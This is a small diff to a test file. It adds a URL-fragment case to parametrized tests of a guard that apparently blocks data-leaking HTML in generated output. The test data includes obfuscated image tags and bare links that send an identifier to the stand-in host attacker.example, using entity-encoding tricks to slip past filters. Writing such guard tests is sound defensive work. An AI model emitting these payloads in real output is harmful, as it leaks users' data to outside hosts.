@@ -301,6 +301,7 @@ def test_a_thought_part_is_guarded_too():
         ['<img a"b src="/&#9;/attacker.example?d=INC-002">'],
         ['<img src="&#0000000047;&#0000000047;attacker.example?INC-002">'],
         ["Details: attacker.example?d=INC-002"],
+        ["Details: attacker.example#INC-002"],
     ],
     ids=[
         "entity-tab-split",
@@ -312,6 +313,7 @@ def test_a_thought_part_is_guarded_too():
         "quote-in-name",
         "long-numeric-entities",
         "bare-host-with-query",
+        "bare-host-with-fragment",
     ],
 )
 def test_html_as_a_browser_tokenises_it_is_guarded(parts):
